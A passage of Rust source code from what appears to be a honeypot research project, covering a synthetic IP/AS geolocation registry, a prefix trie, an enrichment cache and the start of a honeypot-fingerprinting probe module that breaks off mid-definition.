        // duplicate generated usernames collapse (BTreeMap semantics)
        let n = fake_redis_entries(5).len();
        assert!(
            (190..=decoy_honeypots::deploy::REDIS_FAKE_ENTRIES).contains(&n),
            "{n}"
        );
        // sorted by key, unique keys
        let entries = fake_redis_entries(5);
        assert!(entries.windows(2).all(|w| w[0].0 < w[1].0));
        assert!(fake_redis_entries(5)[0].0.starts_with("user:"));
        assert!(!fake_redis_entries(5)[0].1.is_empty());
    }
}
