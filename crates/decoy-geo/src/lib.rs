#![warn(missing_docs)]
#![forbid(unsafe_code)]

//! # decoy-geo
//!
//! IP enrichment for the analysis pipeline — the substitute for the paper's
//! MaxMind GeoLite database, manual AS classification, ASdb cross-reference,
//! and institutional-scanner list (§4.3, Figure 1 step ③).
//!
//! * [`trie`] — a binary longest-prefix-match trie over IPv4.
//! * [`enrich`] — a memoizing per-IP cache ([`GeoEnricher`]) so the analysis
//!   frame enriches each source exactly once.
//! * [`registry`] — a built-in allocation table whose autonomous systems are
//!   modeled on the ASes the paper names (AS6939 Hurricane, AS396982 Google
//!   Cloud, AS14061 DigitalOcean, AS4134 Chinanet, AS208091, AS398324
//!   Censys, ...), each with synthetic-but-disjoint prefixes and per-prefix
//!   geolocation. Lookups are consistent, which is all enrichment needs.
//!
//! The same registry drives the *generation* side: `decoy-agents` samples
//! attacker source addresses from these prefixes, so enrichment of simulated
//! traffic recovers exactly the country/AS structure the population was
//! built with — mirroring how the paper's enrichment recovers the structure
//! of real traffic.

pub mod enrich;
pub mod registry;
pub mod trie;

pub use enrich::GeoEnricher;

use rand::Rng;
use serde::{Deserialize, Serialize};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

/// AS classification categories (Appendix D).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AsType {
    /// Business services unrelated to hosting/telecom/security.
    Business,
    /// Data centers and cloud hosting providers.
    Hosting,
    /// ICT services: registrars, SaaS, CDNs.
    IctService,
    /// Specialized IP services, e.g. address brokerage / transit.
    IpService,
    /// Security research firms and scanners (Censys, Shodan, ...).
    Security,
    /// Telcos and access ISPs.
    Telecom,
    /// Academic institutions.
    University,
    /// VPN providers.
    Vpn,
    /// Access ISPs distinct from backbone telecoms (Table 7 lists ISP
    /// separately from Telecom).
    Isp,
    /// Could not be classified.
    Unknown,
}

impl AsType {
    /// Label used in Tables 7 and 11.
    pub fn label(&self) -> &'static str {
        match self {
            AsType::Business => "Business",
            AsType::Hosting => "Hosting",
            AsType::IctService => "ICT",
            AsType::IpService => "IP Service",
            AsType::Security => "Security",
            AsType::Telecom => "Telecom",
            AsType::University => "University",
            AsType::Vpn => "VPN",
            AsType::Isp => "ISP",
            AsType::Unknown => "Unknown",
        }
    }

    /// All categories in table order.
    pub fn all() -> [AsType; 10] {
        [
            AsType::Business,
            AsType::Hosting,
            AsType::IctService,
            AsType::IpService,
            AsType::Security,
            AsType::Telecom,
            AsType::University,
            AsType::Vpn,
            AsType::Isp,
            AsType::Unknown,
        ]
    }
}

/// One autonomous system in the registry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AsRecord {
    /// AS number.
    pub asn: u32,
    /// Organization name as it appears in tables.
    pub name: String,
    /// Manual classification (Appendix D).
    pub as_type: AsType,
    /// Whether this AS belongs to the institutional-scanner list of
    /// Griffioen et al. (search engines, research scanners).
    pub institutional: bool,
}

/// One announced prefix: `base/len`, geolocated to `country`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PrefixRecord {
    /// Network base address.
    pub base: Ipv4Addr,
    /// Prefix length in bits.
    pub len: u8,
    /// Owning AS number.
    pub asn: u32,
    /// ISO 3166-1 alpha-2 country of the prefix.
    pub country: [u8; 2],
}

impl PrefixRecord {
    /// Country code as a string slice.
    pub fn country_str(&self) -> &str {
        std::str::from_utf8(&self.country).unwrap_or("??")
    }
}

/// Enrichment result for one IP.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct IpMeta {
    /// Owning AS number.
    pub asn: u32,
    /// AS organization name.
    pub as_name: String,
    /// AS classification.
    pub as_type: AsType,
    /// ISO country code of the prefix.
    pub country: String,
    /// Institutional-scanner flag.
    pub institutional: bool,
}

/// The enrichment database: AS registry + prefix trie.
#[derive(Debug)]
pub struct GeoDb {
    records: Vec<AsRecord>,
    prefixes: Vec<PrefixRecord>,
    trie: trie::PrefixTrie,
}

impl GeoDb {
    /// Build a database from explicit records and prefixes.
    pub fn from_parts(records: Vec<AsRecord>, prefixes: Vec<PrefixRecord>) -> Arc<Self> {
        let mut trie = trie::PrefixTrie::new();
        for (idx, p) in prefixes.iter().enumerate() {
            trie.insert(u32::from(p.base), p.len, idx as u32);
        }
        Arc::new(GeoDb {
            records,
            prefixes,
            trie,
        })
    }

    /// The built-in registry modeled on the paper's ASes.
    pub fn builtin() -> Arc<Self> {
        registry::build()
    }

    /// Longest-prefix-match enrichment of one address (IPv6 is unmapped —
    /// the paper's honeypot traffic is IPv4).
    pub fn lookup(&self, ip: IpAddr) -> Option<IpMeta> {
        let IpAddr::V4(v4) = ip else { return None };
        let idx = self.trie.lookup(u32::from(v4))? as usize;
        let prefix = &self.prefixes[idx];
        let record = self.record(prefix.asn)?;
        Some(IpMeta {
            asn: record.asn,
            as_name: record.name.clone(),
            as_type: record.as_type,
            country: prefix.country_str().to_string(),
            institutional: record.institutional,
        })
    }

    /// The registry record for `asn`.
    pub fn record(&self, asn: u32) -> Option<&AsRecord> {
        self.records.iter().find(|r| r.asn == asn)
    }

    /// All registered AS numbers.
    pub fn asns(&self) -> impl Iterator<Item = u32> + '_ {
        self.records.iter().map(|r| r.asn)
    }

    /// ASes of a given classification.
    pub fn asns_of_type(&self, t: AsType) -> Vec<u32> {
        self.records
            .iter()
            .filter(|r| r.as_type == t)
            .map(|r| r.asn)
            .collect()
    }

    /// ASes announcing at least one prefix in `country`.
    pub fn asns_in_country(&self, country: &str) -> Vec<u32> {
        let mut out: Vec<u32> = self
            .prefixes
            .iter()
            .filter(|p| p.country_str() == country)
            .map(|p| p.asn)
            .collect();
        out.sort_unstable();
        out.dedup();
        out
    }

    /// Prefixes announced by `asn`, optionally restricted to a country.
    pub fn prefixes_of(&self, asn: u32, country: Option<&str>) -> Vec<&PrefixRecord> {
        self.prefixes
            .iter()
            .filter(|p| p.asn == asn && country.map(|c| p.country_str() == c).unwrap_or(true))
            .collect()
    }

    /// Whether `ip` belongs to an institutional scanner.
    pub fn is_institutional(&self, ip: IpAddr) -> bool {
        self.lookup(ip).map(|m| m.institutional).unwrap_or(false)
    }

    /// Draw a host address uniformly from one of `asn`'s prefixes (used by
    /// the agent population to place actors in realistic networks).
    pub fn sample_ip<R: Rng>(
        &self,
        asn: u32,
        country: Option<&str>,
        rng: &mut R,
    ) -> Option<Ipv4Addr> {
        let candidates = self.prefixes_of(asn, country);
        if candidates.is_empty() {
            return None;
        }
        let p = candidates[rng.gen_range(0..candidates.len())];
        let host_bits = 32 - p.len as u32;
        let span = if host_bits >= 32 {
            u32::MAX
        } else {
            (1u32 << host_bits) - 1
        };
        // avoid .0 network addresses for realism
        let offset = if span > 1 { rng.gen_range(1..=span) } else { 1 };
        Some(Ipv4Addr::from(u32::from(p.base) | (offset & span)))
    }

    /// Number of prefixes in the table.
    pub fn prefix_count(&self) -> usize {
        self.prefixes.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    fn db() -> Arc<GeoDb> {
        GeoDb::builtin()
    }

    #[test]
    fn builtin_contains_paper_ases() {
        let db = db();
        // The top-10 ASes of Table 6 plus the Russian brute-force hoster.
        for asn in [
            6939, 396982, 14061, 211298, 14618, 135377, 4134, 4837, 398324, 63949, 208091,
        ] {
            assert!(db.record(asn).is_some(), "AS{asn} missing");
        }
        assert_eq!(db.record(4134).unwrap().as_type, AsType::Telecom);
        assert_eq!(db.record(14061).unwrap().as_type, AsType::Hosting);
        assert_eq!(db.record(398324).unwrap().as_type, AsType::Security);
        assert!(db.record(398324).unwrap().institutional);
        assert!(!db.record(4134).unwrap().institutional);
    }

    #[test]
    fn lookup_is_consistent_with_sampling() {
        let db = db();
        let mut rng = StdRng::seed_from_u64(1);
        for asn in db.asns().collect::<Vec<_>>() {
            let ip = db.sample_ip(asn, None, &mut rng).unwrap();
            let meta = db.lookup(IpAddr::V4(ip)).unwrap();
            assert_eq!(meta.asn, asn, "ip {ip} sampled from AS{asn}");
        }
    }

    #[test]
    fn country_restricted_sampling() {
        let db = db();
        let mut rng = StdRng::seed_from_u64(2);
        // DigitalOcean announces in several countries; restrict to NL.
        let ip = db.sample_ip(14061, Some("NL"), &mut rng).unwrap();
        let meta = db.lookup(IpAddr::V4(ip)).unwrap();
        assert_eq!(meta.country, "NL");
        assert_eq!(meta.asn, 14061);
        // an impossible combination yields None
        assert!(db.sample_ip(4134, Some("BR"), &mut rng).is_none());
    }

    #[test]
    fn unknown_space_is_unmapped() {
        let db = db();
        assert!(db.lookup("203.0.113.77".parse().unwrap()).is_none());
        assert!(db.lookup("::1".parse().unwrap()).is_none());
    }

    #[test]
    fn type_and_country_queries() {
        let db = db();
        let hosting = db.asns_of_type(AsType::Hosting);
        assert!(hosting.contains(&14061));
        assert!(hosting.contains(&396982));
        let cn = db.asns_in_country("CN");
        assert!(cn.contains(&4134));
        assert!(cn.contains(&4837));
        let ru = db.asns_in_country("RU");
        assert!(ru.contains(&208091), "AS208091 hosts in RU per §5");
    }

    #[test]
    fn astype_labels_cover_tables() {
        assert_eq!(AsType::IctService.label(), "ICT");
        assert_eq!(AsType::IpService.label(), "IP Service");
        assert_eq!(AsType::all().len(), 10);
    }
}
