//! The built-in AS registry.
//!
//! Autonomous systems are modeled on the ones the paper names in Tables 5–7
//! and §5–6 (Hurricane, Google Cloud, DigitalOcean, Chinanet, Censys, the
//! UK-registered hoster AS208091 whose four IPs drove the Russian
//! brute-force volume, ...) plus enough telecom/hosting/security/university
//! ASes per country to reproduce the country and AS-type marginals of the
//! tables. Prefixes are synthetic `/16` blocks allocated disjointly, so
//! longest-prefix lookups are exact and collision-free.

use crate::{AsRecord, AsType, GeoDb, PrefixRecord};
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Declarative entry: `(asn, name, type, institutional, prefix countries)`.
/// Each country code in the list receives one dedicated /16.
type Entry = (u32, &'static str, AsType, bool, &'static [&'static str]);

/// The registry table. Country lists control where [`GeoDb::sample_ip`] can
/// place actors from each AS.
const ENTRIES: &[Entry] = &[
    // --- Table 6 top-10 (paper-named) --------------------------------
    (
        6939,
        "HURRICANE",
        AsType::IpService,
        false,
        &["US", "US", "US"],
    ),
    (
        396982,
        "GOOGLE-CLOUD-PLATFORM",
        AsType::Hosting,
        false,
        &["US", "US", "US", "DE", "SG"],
    ),
    (
        14061,
        "DIGITALOCEAN-ASN",
        AsType::Hosting,
        false,
        &["US", "US", "NL", "SG", "GB", "DE", "IN"],
    ),
    (
        211298,
        "Constantine Cybersecurity Ltd.",
        AsType::Security,
        true,
        &["GB", "GB"],
    ),
    (
        14618,
        "AMAZON-AES",
        AsType::Hosting,
        false,
        &["US", "US", "US"],
    ),
    (
        135377,
        "UCLOUD INFORMATION TECHNOLOGY HK Ltd.",
        AsType::Hosting,
        false,
        &["HK", "CN"],
    ),
    (
        4134,
        "Chinanet",
        AsType::Telecom,
        false,
        &["CN", "CN", "CN", "CN"],
    ),
    (
        4837,
        "CHINA UNICOM China169 Backbone",
        AsType::Telecom,
        false,
        &["CN", "CN", "CN"],
    ),
    (
        398324,
        "CENSYS-ARIN-01",
        AsType::Security,
        true,
        &["US", "US"],
    ),
    (
        63949,
        "Akamai Connected Cloud",
        AsType::Hosting,
        false,
        &["US", "US", "GB", "DE", "SG"],
    ),
    // --- the Russian brute-force hoster of §5 -------------------------
    (
        208091,
        "XHOST-INTERNET-SOLUTIONS",
        AsType::Hosting,
        false,
        &["RU", "RU"],
    ),
    // --- institutional scanners beyond Censys -------------------------
    (398722, "SHODAN-NET", AsType::Security, true, &["US"]),
    (
        63113,
        "SHADOWSERVER-FOUNDATION",
        AsType::Security,
        true,
        &["US"],
    ),
    (202623, "RAPID7-SCAN", AsType::Security, true, &["US"]),
    (213412, "ONYPHE-SAS", AsType::Security, true, &["FR"]),
    (134698, "KNOWNSEC-ZOOMEYE", AsType::Security, true, &["CN"]),
    (211680, "BINARYEDGE-SCAN", AsType::Security, true, &["CH"]),
    // --- hosting providers ---------------------------------------------
    (
        16276,
        "OVH SAS",
        AsType::Hosting,
        false,
        &["FR", "FR", "CA"],
    ),
    (
        24940,
        "Hetzner Online GmbH",
        AsType::Hosting,
        false,
        &["DE", "DE", "FI"],
    ),
    (
        45102,
        "Alibaba (US) Technology",
        AsType::Hosting,
        false,
        &["CN", "SG", "US"],
    ),
    (
        132203,
        "Tencent Building",
        AsType::Hosting,
        false,
        &["CN", "SG"],
    ),
    (
        9009,
        "M247 Europe",
        AsType::Hosting,
        false,
        &["RO", "FR", "GB", "US"],
    ),
    (34224, "Neterra Ltd.", AsType::Hosting, false, &["BG", "BG"]),
    (44901, "Belcloud LTD", AsType::Hosting, false, &["BG"]),
    (201229, "HOSTKEY-RU", AsType::Hosting, false, &["RU", "NL"]),
    (55286, "SERVER-MANIA", AsType::Hosting, false, &["US", "CA"]),
    (
        136907,
        "HUAWEI CLOUDS",
        AsType::Hosting,
        false,
        &["HK", "SG", "ID"],
    ),
    // --- telecoms / ISPs ------------------------------------------------
    (7922, "COMCAST-7922", AsType::Telecom, false, &["US", "US"]),
    (
        3320,
        "Deutsche Telekom AG",
        AsType::Telecom,
        false,
        &["DE", "DE"],
    ),
    (3215, "Orange S.A.", AsType::Telecom, false, &["FR", "FR"]),
    (
        2856,
        "British Telecommunications",
        AsType::Telecom,
        false,
        &["GB", "GB"],
    ),
    (1136, "KPN B.V.", AsType::Telecom, false, &["NL"]),
    (
        12389,
        "PJSC Rostelecom",
        AsType::Telecom,
        false,
        &["RU", "RU"],
    ),
    (4766, "Korea Telecom", AsType::Telecom, false, &["KR", "KR"]),
    (3249, "Telia Eesti AS", AsType::Telecom, false, &["EE"]),
    (15895, "Kyivstar PJSC", AsType::Telecom, false, &["UA"]),
    (
        58224,
        "Iran Telecommunication Company",
        AsType::Telecom,
        false,
        &["IR"],
    ),
    (16010, "MagtiCom Ltd.", AsType::Telecom, false, &["GE"]),
    (6799, "OTE S.A.", AsType::Telecom, false, &["GR"]),
    (
        9829,
        "National Internet Backbone (BSNL)",
        AsType::Telecom,
        false,
        &["IN", "IN"],
    ),
    (
        7713,
        "PT Telekomunikasi Indonesia",
        AsType::Telecom,
        false,
        &["ID", "ID"],
    ),
    (
        7473,
        "Singapore Telecommunications",
        AsType::Telecom,
        false,
        &["SG"],
    ),
    (
        4812,
        "China Telecom (Group) Shanghai",
        AsType::Telecom,
        false,
        &["CN"],
    ),
    (
        8866,
        "Vivacom Bulgaria EAD",
        AsType::Telecom,
        false,
        &["BG"],
    ),
    (5089, "Virgin Media Limited", AsType::Isp, false, &["GB"]),
    // --- ICT / IP services / VPN / business / universities --------------
    (
        13335,
        "CLOUDFLARENET",
        AsType::IctService,
        false,
        &["US", "US"],
    ),
    (15169, "GOOGLE", AsType::IctService, false, &["US"]),
    (
        202425,
        "IP Volume inc",
        AsType::IpService,
        false,
        &["NL", "SC"],
    ),
    (
        212238,
        "Datacamp Limited",
        AsType::Vpn,
        false,
        &["GB", "US"],
    ),
    (
        198465,
        "BV Acme Logistics",
        AsType::Business,
        false,
        &["NL"],
    ),
    (
        1128,
        "Delft University of Technology",
        AsType::University,
        false,
        &["NL"],
    ),
    (
        88,
        "Princeton University",
        AsType::University,
        false,
        &["US"],
    ),
    (
        2501,
        "The University of Tokyo",
        AsType::University,
        false,
        &["JP"],
    ),
    // --- unclassifiable (Table 7's Unknown bucket) -----------------------
    (39134, "UNMANAGED-LTD", AsType::Unknown, false, &["RU"]),
    (44812, "IP-SERVICE-OOO", AsType::Unknown, false, &["RU"]),
    (
        134121,
        "RAINBOW-NETWORK-LIMITED",
        AsType::Unknown,
        false,
        &["CN", "CN"],
    ),
    (
        266842,
        "INTERNEXA-BACKBONE",
        AsType::Unknown,
        false,
        &["BR"],
    ),
];

/// First octet of the synthetic allocation space. Chosen so nothing
/// collides with loopback, RFC1918, documentation, or multicast ranges used
/// elsewhere in the test suite.
const ALLOC_BASE_OCTET: u8 = 60;

/// Build the built-in database, allocating one disjoint /16 per country
/// entry in table order: `60.0.0.0/16`, `60.1.0.0/16`, ...
pub fn build() -> Arc<GeoDb> {
    let mut records = Vec::with_capacity(ENTRIES.len());
    let mut prefixes = Vec::new();
    let mut block: u16 = 0;
    for (asn, name, as_type, institutional, countries) in ENTRIES {
        records.push(AsRecord {
            asn: *asn,
            name: (*name).to_string(),
            as_type: *as_type,
            institutional: *institutional,
        });
        for country in *countries {
            let hi = ALLOC_BASE_OCTET.wrapping_add((block >> 8) as u8);
            let lo = (block & 0xff) as u8;
            let cc: [u8; 2] = country.as_bytes().try_into().expect("2-letter code");
            prefixes.push(PrefixRecord {
                base: Ipv4Addr::new(hi, lo, 0, 0),
                len: 16,
                asn: *asn,
                country: cc,
            });
            block += 1;
        }
    }
    GeoDb::from_parts(records, prefixes)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn entries_have_unique_asns() {
        let set: HashSet<u32> = ENTRIES.iter().map(|e| e.0).collect();
        assert_eq!(set.len(), ENTRIES.len());
    }

    #[test]
    fn prefixes_are_disjoint() {
        let db = build();
        // all /16s by construction; bases must be unique
        let mut bases = HashSet::new();
        for asn in db.asns().collect::<Vec<_>>() {
            for p in db.prefixes_of(asn, None) {
                assert_eq!(p.len, 16);
                assert!(bases.insert(p.base), "duplicate prefix {:?}", p.base);
            }
        }
        assert_eq!(bases.len(), db.prefix_count());
    }

    #[test]
    fn covers_all_table5_and_table10_countries() {
        let db = build();
        // Table 5 (logins) + Table 10 (exploiters) country codes.
        for cc in [
            "RU", "CN", "EE", "KR", "UA", "IR", "US", "GE", "GR", "IN", // Table 5
            "BG", "DE", "FR", "GB", "NL", "SG", "ID", // Table 10 extras
        ] {
            assert!(
                !db.asns_in_country(cc).is_empty(),
                "no AS announces in {cc}"
            );
        }
    }

    #[test]
    fn institutional_list_is_security_typed() {
        let db = build();
        for asn in db.asns().collect::<Vec<_>>() {
            let r = db.record(asn).unwrap();
            if r.institutional {
                assert_eq!(
                    r.as_type,
                    AsType::Security,
                    "institutional scanners are security ASes in this registry"
                );
            }
        }
    }

    #[test]
    fn every_type_in_appendix_d_is_represented_except_none() {
        let db = build();
        for t in [
            AsType::Business,
            AsType::Hosting,
            AsType::IctService,
            AsType::IpService,
            AsType::Security,
            AsType::Telecom,
            AsType::University,
            AsType::Vpn,
            AsType::Isp,
            AsType::Unknown,
        ] {
            assert!(!db.asns_of_type(t).is_empty(), "{t:?} unrepresented");
        }
    }
}
