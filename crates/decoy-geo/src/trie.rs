//! Binary longest-prefix-match trie over IPv4 addresses.
//!
//! Node-array representation (no recursion, no `Box` chains). Insertion
//! walks the prefix bits most-significant first; lookup remembers the last
//! node with a value, which by construction is the longest matching prefix.

/// Sentinel for "no child".
const NONE: u32 = u32::MAX;

/// A fixed-stride-1 binary trie mapping prefixes to `u32` payloads.
#[derive(Debug, Default)]
pub struct PrefixTrie {
    nodes: Vec<Node>,
}

#[derive(Debug, Clone, Copy)]
struct Node {
    children: [u32; 2],
    value: Option<u32>,
}

impl Node {
    fn empty() -> Self {
        Node {
            children: [NONE, NONE],
            value: None,
        }
    }
}

impl PrefixTrie {
    /// An empty trie.
    pub fn new() -> Self {
        PrefixTrie {
            nodes: vec![Node::empty()],
        }
    }

    /// Insert `base/len → value`. Later inserts of the same prefix replace
    /// the earlier value. `len` is clamped to 32.
    pub fn insert(&mut self, base: u32, len: u8, value: u32) {
        let len = len.min(32) as u32;
        let mut node = 0usize;
        for bit_idx in 0..len {
            let bit = ((base >> (31 - bit_idx)) & 1) as usize;
            if self.nodes[node].children[bit] == NONE {
                self.nodes.push(Node::empty());
                let new_idx = (self.nodes.len() - 1) as u32;
                self.nodes[node].children[bit] = new_idx;
            }
            node = self.nodes[node].children[bit] as usize;
        }
        self.nodes[node].value = Some(value);
    }

    /// Longest-prefix-match lookup.
    pub fn lookup(&self, addr: u32) -> Option<u32> {
        let mut node = 0usize;
        let mut best = self.nodes[0].value;
        for bit_idx in 0..32 {
            let bit = ((addr >> (31 - bit_idx)) & 1) as usize;
            let next = self.nodes[node].children[bit];
            if next == NONE {
                break;
            }
            node = next as usize;
            if let Some(v) = self.nodes[node].value {
                best = Some(v);
            }
        }
        best
    }

    /// Number of allocated trie nodes (diagnostics).
    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn ip(s: &str) -> u32 {
        s.parse::<Ipv4Addr>().unwrap().into()
    }

    #[test]
    fn exact_and_covering_prefixes() {
        let mut t = PrefixTrie::new();
        t.insert(ip("10.0.0.0"), 8, 1);
        t.insert(ip("10.1.0.0"), 16, 2);
        t.insert(ip("10.1.2.0"), 24, 3);
        assert_eq!(t.lookup(ip("10.9.9.9")), Some(1));
        assert_eq!(t.lookup(ip("10.1.9.9")), Some(2));
        assert_eq!(t.lookup(ip("10.1.2.9")), Some(3));
        assert_eq!(t.lookup(ip("11.0.0.1")), None);
    }

    #[test]
    fn host_routes_and_default() {
        let mut t = PrefixTrie::new();
        t.insert(0, 0, 99); // default route
        t.insert(ip("192.0.2.1"), 32, 7);
        assert_eq!(t.lookup(ip("192.0.2.1")), Some(7));
        assert_eq!(t.lookup(ip("192.0.2.2")), Some(99));
        assert_eq!(t.lookup(ip("8.8.8.8")), Some(99));
    }

    #[test]
    fn reinsert_replaces_value() {
        let mut t = PrefixTrie::new();
        t.insert(ip("172.16.0.0"), 12, 1);
        t.insert(ip("172.16.0.0"), 12, 5);
        assert_eq!(t.lookup(ip("172.20.1.1")), Some(5));
    }

    #[test]
    fn disjoint_prefixes_do_not_interfere() {
        let mut t = PrefixTrie::new();
        t.insert(ip("20.0.0.0"), 16, 1);
        t.insert(ip("20.1.0.0"), 16, 2);
        t.insert(ip("21.0.0.0"), 16, 3);
        assert_eq!(t.lookup(ip("20.0.255.255")), Some(1));
        assert_eq!(t.lookup(ip("20.1.0.1")), Some(2));
        assert_eq!(t.lookup(ip("21.0.0.1")), Some(3));
        assert_eq!(t.lookup(ip("22.0.0.1")), None);
        assert!(t.node_count() > 3);
    }

    /// Reference implementation: linear scan over (base, len, value).
    fn oracle(prefixes: &[(u32, u8, u32)], addr: u32) -> Option<u32> {
        prefixes
            .iter()
            .filter(|(base, len, _)| {
                let mask = if *len == 0 {
                    0
                } else {
                    u32::MAX << (32 - *len as u32)
                };
                addr & mask == base & mask
            })
            .max_by_key(|(_, len, _)| *len)
            .map(|(_, _, v)| *v)
    }

    #[test]
    fn matches_linear_oracle_on_seeded_random_input() {
        use rand::rngs::StdRng;
        use rand::{Rng, SeedableRng};
        let mut rng = StdRng::seed_from_u64(0xDEC0);
        let mut prefixes = Vec::new();
        let mut trie = PrefixTrie::new();
        for v in 0..200u32 {
            let base: u32 = rng.gen();
            let len: u8 = rng.gen_range(0..=32);
            let mask = if len == 0 {
                0
            } else {
                u32::MAX << (32 - len as u32)
            };
            let base = base & mask;
            // skip duplicate prefixes: the oracle's max_by_key tie-break
            // would differ from the trie's replace semantics
            if prefixes.iter().any(|(b, l, _)| *b == base && *l == len) {
                continue;
            }
            trie.insert(base, len, v);
            prefixes.push((base, len, v));
        }
        for _ in 0..2000 {
            let addr: u32 = rng.gen();
            assert_eq!(trie.lookup(addr), oracle(&prefixes, addr), "addr {addr:#x}");
        }
    }
}
