//! Memoizing enrichment cache.
//!
//! [`GeoDb::lookup`] allocates a fresh [`IpMeta`] (two `String`s) on every
//! call, and the analysis tables historically looked up the same source IP
//! once *per event*. [`GeoEnricher`] computes each IP's enrichment exactly
//! once and hands out shared `Arc<IpMeta>` references afterwards — the
//! paper's "enrich once, consume everywhere" shape (§4.3, Figure 1 step ③).
//!
//! Negative results are cached too: unmapped space stays unmapped, and the
//! trie walk is skipped on every repeat sighting.

use crate::{GeoDb, IpMeta};
use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::{Arc, RwLock};

/// A caching wrapper around [`GeoDb`] keyed by IP address.
///
/// Thread-safe: readers share the cache through an `RwLock`, so concurrent
/// report sections can enrich through one instance.
#[derive(Debug)]
pub struct GeoEnricher {
    db: Arc<GeoDb>,
    cache: RwLock<HashMap<IpAddr, Option<Arc<IpMeta>>>>,
}

impl GeoEnricher {
    /// Wrap a database in a fresh, empty cache.
    pub fn new(db: Arc<GeoDb>) -> Self {
        GeoEnricher {
            db,
            cache: RwLock::new(HashMap::new()),
        }
    }

    /// The wrapped database.
    pub fn db(&self) -> &Arc<GeoDb> {
        &self.db
    }

    /// Enrich `ip`, consulting the trie at most once per distinct address.
    pub fn lookup(&self, ip: IpAddr) -> Option<Arc<IpMeta>> {
        if let Some(cached) = self.cache.read().expect("geo cache poisoned").get(&ip) {
            return cached.clone();
        }
        let meta = self.db.lookup(ip).map(Arc::new);
        self.cache
            .write()
            .expect("geo cache poisoned")
            .entry(ip)
            // on a race, keep the first insertion (both computed the same value)
            .or_insert(meta)
            .clone()
    }

    /// Country code of `ip`, `"??"` when unmapped (table convention).
    pub fn country(&self, ip: IpAddr) -> String {
        self.lookup(ip)
            .map(|m| m.country.clone())
            .unwrap_or_else(|| "??".to_string())
    }

    /// Whether `ip` belongs to an institutional scanner.
    pub fn is_institutional(&self, ip: IpAddr) -> bool {
        self.lookup(ip).map(|m| m.institutional).unwrap_or(false)
    }

    /// Number of distinct addresses enriched so far (cache size).
    pub fn cached(&self) -> usize {
        self.cache.read().expect("geo cache poisoned").len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn memoizes_hits_and_misses() {
        let db = GeoDb::builtin();
        let enricher = GeoEnricher::new(db.clone());
        let mut rng = StdRng::seed_from_u64(7);
        let hit: IpAddr = db.sample_ip(14061, None, &mut rng).unwrap().into();
        let miss: IpAddr = "203.0.113.77".parse().unwrap();

        let first = enricher.lookup(hit).expect("mapped");
        let second = enricher.lookup(hit).expect("mapped");
        // repeat lookups share the same allocation
        assert!(Arc::ptr_eq(&first, &second));
        assert_eq!(first.asn, 14061);

        assert!(enricher.lookup(miss).is_none());
        assert!(enricher.lookup(miss).is_none());
        assert_eq!(enricher.cached(), 2, "negative result cached too");
    }

    #[test]
    fn agrees_with_uncached_lookup() {
        let db = GeoDb::builtin();
        let enricher = GeoEnricher::new(db.clone());
        let mut rng = StdRng::seed_from_u64(8);
        for asn in db.asns().collect::<Vec<_>>() {
            let ip: IpAddr = db.sample_ip(asn, None, &mut rng).unwrap().into();
            let direct = db.lookup(ip).expect("mapped");
            let cached = enricher.lookup(ip).expect("mapped");
            assert_eq!(*cached, direct);
            assert_eq!(enricher.country(ip), direct.country);
            assert_eq!(enricher.is_institutional(ip), direct.institutional);
        }
    }
}
