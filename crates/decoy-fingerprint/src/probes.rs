//! The multistage probe battery.
//!
//! A [`Surface`] is everything a remote client can observe about one
//! honeypot without credentials: the banner it volunteers, the facts it
//! advertises during the handshake (version strings, capability flags),
//! the error text it produces for malformed requests, and the latency
//! distribution of cheap request/response round trips. The probe stages
//! in this module inspect a surface the way a fingerprinting scanner
//! would and emit weighted [`ProbeFinding`]s for every tell.
//!
//! The stages, in the order [`run_all`] executes them:
//!
//! 1. **banner** -- does the banner exist, and does it agree with the
//!    version the handshake advertised?
//! 2. **capability** -- are the advertised capability flags coherent for
//!    that version (wire version, Lucene pairing, RESP protocol, auth
//!    plugin)?
//! 3. **error** -- do error messages for malformed requests match the
//!    real server's error catalog, byte for byte where it matters?
//! 4. **timing** -- does the latency distribution look like a real
//!    networked database, or like an in-process canned responder?
//!
//! This module is deliberately `std`-only so the probe logic can be
//! exercised against both captured live surfaces ([`crate::engine`])
//! and the frozen regression corpus ([`crate::corpus`]).

/// The six protocol families the fleet deploys, by scorecard key.
pub const FAMILIES: [&str; 6] = [
    "couchdb", "elastic", "mongodb", "mysql", "postgres", "redis",
];

/// Everything a remote, unauthenticated client can observe about one
/// honeypot: the raw material the probe stages score.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Surface {
    /// Scorecard key; one of [`FAMILIES`].
    pub family: String,
    /// The free-text banner the service volunteers (greeting version,
    /// `INFO server`, the `GET /` body, ...).
    pub banner: String,
    /// Error text produced for a syntactically well-formed request
    /// naming a command/resource that does not exist.
    pub error_unknown: String,
    /// Error text produced for a malformed / unparseable request.
    pub error_syntax: String,
    /// Key/value facts advertised during the handshake (version,
    /// capability flags, auth plugin, wire version, ...).
    pub facts: Vec<(String, String)>,
    /// Microsecond latencies of repeated cheap round trips.
    pub timing_us: Vec<u64>,
}

impl Surface {
    /// An empty surface for `family`.
    pub fn named(family: &str) -> Surface {
        Surface {
            family: family.to_string(),
            ..Surface::default()
        }
    }

    /// Record a handshake fact.
    pub fn push_fact(&mut self, key: &str, value: impl Into<String>) {
        self.facts.push((key.to_string(), value.into()));
    }

    /// Look up a handshake fact by key.
    pub fn fact(&self, key: &str) -> Option<&str> {
        self.facts
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }
}

/// One tell discovered by a probe stage, weighted by how cheaply a
/// scanner could exploit it (higher = more damning).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbeFinding {
